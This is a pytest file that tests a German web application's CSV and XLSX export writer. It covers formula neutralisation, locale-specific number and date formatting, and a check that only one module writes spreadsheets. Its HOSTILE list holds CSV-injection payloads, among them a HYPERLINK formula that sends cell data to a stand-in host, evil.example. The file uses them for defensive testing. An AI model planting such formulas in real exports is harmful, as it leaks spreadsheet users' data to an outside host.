"""The one export writer: no formula from people's text, numbers stay numbers, German
files open right in German Excel; and no other module writes CSV or XLSX itself."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook

import projektfabrik
from projektfabrik import exports
from projektfabrik.exports import Money, Percent, Sheet

#: Cells a spreadsheet program would run as formulas (OWASP "CSV injection").
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
ROW = [*HOSTILE, Money(-123456), Money(50), 42, Decimal("7.5"), date(2026, 5, 15), "Grün"]


@pytest.fixture
def german(app: Flask):  # type: ignore[no-untyped-def]
    with app.test_request_context(headers={"Accept-Language": "de"}):
        from flask_babel import force_locale

        with force_locale("de"):
            yield


@pytest.fixture
def english(app: Flask):  # type: ignore[no-untyped-def]
    with app.test_request_context():
        from flask_babel import force_locale

        with force_locale("en"):
            yield


def test_csv_for_people_in_german_neutralises_and_keeps_numbers(german: None) -> None:
    text = exports.csv_for_people([["Titel", "Betrag"], ROW])
    assert text.startswith("\ufeff")  # UTF-8 BOM: Excel reads the umlauts
    header, row = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert header == ["Titel", "Betrag"]
    assert row[: len(HOSTILE)] == ["'" + cell for cell in HOSTILE]
    assert row[len(HOSTILE) :] == ["-1234,56", "0,50", "42", "7,5", "15.05.2026", "Grün"]


def test_csv_for_people_in_english_uses_commas_and_points(english: None) -> None:
    text = exports.csv_for_people([[Money(-123456), date(2026, 5, 15), "=1"]])
    assert list(csv.reader(io.StringIO(text[1:]))) == [["-1234.56", "2026-05-15", "'=1"]]


def test_csv_for_machines_is_plain_and_still_neutralised(german: None) -> None:
    text = exports.csv_for_machines([ROW, [True, None, Percent(2308)]])
    assert not text.startswith("\ufeff")
    row, second = list(csv.reader(io.StringIO(text)))
    assert row[: len(HOSTILE)] == ["'" + cell for cell in HOSTILE]
    assert row[len(HOSTILE) :] == ["-1234.56", "0.50", "42", "7.5", "2026-05-15", "Grün"]
    assert second == ["true", "", "23.08"]


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers(german: None) -> None:
    stamp = datetime(2026, 5, 15, 17, 0, tzinfo=UTC)  # 19:00 in Berlin
    data = exports.xlsx(
        [
            Sheet(title="Anträge: [alle]", rows=[["Titel", "Betrag"], ROW]),
            Sheet(title="Anträge: [alle]", rows=[[stamp, Percent(2308), "Null\x00Byte", True]]),
        ]
    )
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Anträge   alle", "Anträge   alle (2)"]
    first, second = book.worksheets
    assert first["A1"].font.bold and first.freeze_panes == "A2"
    cells = list(first[2])
    for cell, hostile in zip(cells, HOSTILE, strict=False):
        assert cell.data_type == "s"  # shown exactly as typed (XML reads a CR as LF)
        assert cell.value == hostile.replace("\r", "\n")
        assert cell.quotePrefix  # and stays text when someone edits it
    every = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in every if c.data_type == "f"]
    money, small, whole, decimal, day, plain = cells[len(HOSTILE) :]
    assert money.data_type == "n" and Decimal(str(money.value)) == Decimal("-1234.56")
    assert money.number_format == exports.EURO_FORMAT and Decimal(str(small.value)) == 0.5
    assert whole.value == 42 and Decimal(str(decimal.value)) == Decimal("7.5")
    assert day.is_date and day.value == datetime(2026, 5, 15)
    assert day.number_format == "DD.MM.YYYY" and plain.value == "Grün"
    when, share, text, flag = next(second.iter_rows(values_only=True))
    assert when == datetime(2026, 5, 15, 19, 0)  # the town's clock
    assert Decimal(str(share)) == Decimal("0.2308") and second["B1"].number_format == "0.00%"
    assert text == "NullByte" and flag == "ja"


@pytest.mark.parametrize(
    ("text", "formula"),
    [("=1", True), ("+49 170", True), ("-", True), ("@a", True), ("\t", True), ("\rx", True),
     (" =1", True), ("Straße 1", False), ("1-2", False), ("", False), ("'=1", False)],
)  # fmt: skip
def test_what_counts_as_a_formula(text: str, formula: bool) -> None:
    assert exports.is_formula_like(text) is formula
    assert exports.neutralise(text) == ("'" + text if formula else text)


# --- nobody else writes CSV or XLSX -------------------------------------------------------

ROOT = Path(projektfabrik.__file__).resolve().parents[1]
WRITER = ROOT / "projektfabrik" / "exports.py"


SPREADSHEET_WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}


def writes_spreadsheets(source: str) -> list[str]:
    """Where ``source`` uses ``csv.writer``/``DictWriter`` or openpyxl's ``Workbook``."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {a.name for a in node.names}
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                found.append(f"line {node.lineno}: from csv import {names}")
            if node.module.startswith("openpyxl") and "Workbook" in names:
                found.append(f"line {node.lineno}: from {node.module} import Workbook")
        elif (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and (node.value.id, node.attr) in SPREADSHEET_WRITERS
        ):
            found.append(f"line {node.lineno}: {node.value.id}.{node.attr}")
    return found


def source_files() -> list[Path]:
    files = list((ROOT / "projektfabrik").rglob("*.py"))
    for plugin in (ROOT / "plugins").iterdir():
        files += [p for p in plugin.rglob("*.py") if "tests" not in p.relative_to(plugin).parts]
    return sorted(p for p in files if p != WRITER and ".venv" not in p.parts)


def test_the_check_finds_a_module_that_writes_its_own_csv() -> None:
    assert writes_spreadsheets("import csv\nw = csv.writer(out)\n")
    assert writes_spreadsheets("from openpyxl import Workbook\n")
    assert writes_spreadsheets("import openpyxl\nopenpyxl.Workbook()\n")
    assert not writes_spreadsheets("import csv\nrows = csv.reader(text)\n")


def test_only_the_export_writer_writes_csv_or_xlsx() -> None:
    files = source_files()
    assert any("plugins" in p.parts for p in files)  # the plugins are scanned too
    wrong = {
        str(p.relative_to(ROOT)): found
        for p in files
        if (found := writes_spreadsheets(p.read_text("utf-8")))
    }
    assert not wrong, f"use projektfabrik.exports (api: csv_for_people, xlsx_workbook): {wrong}"
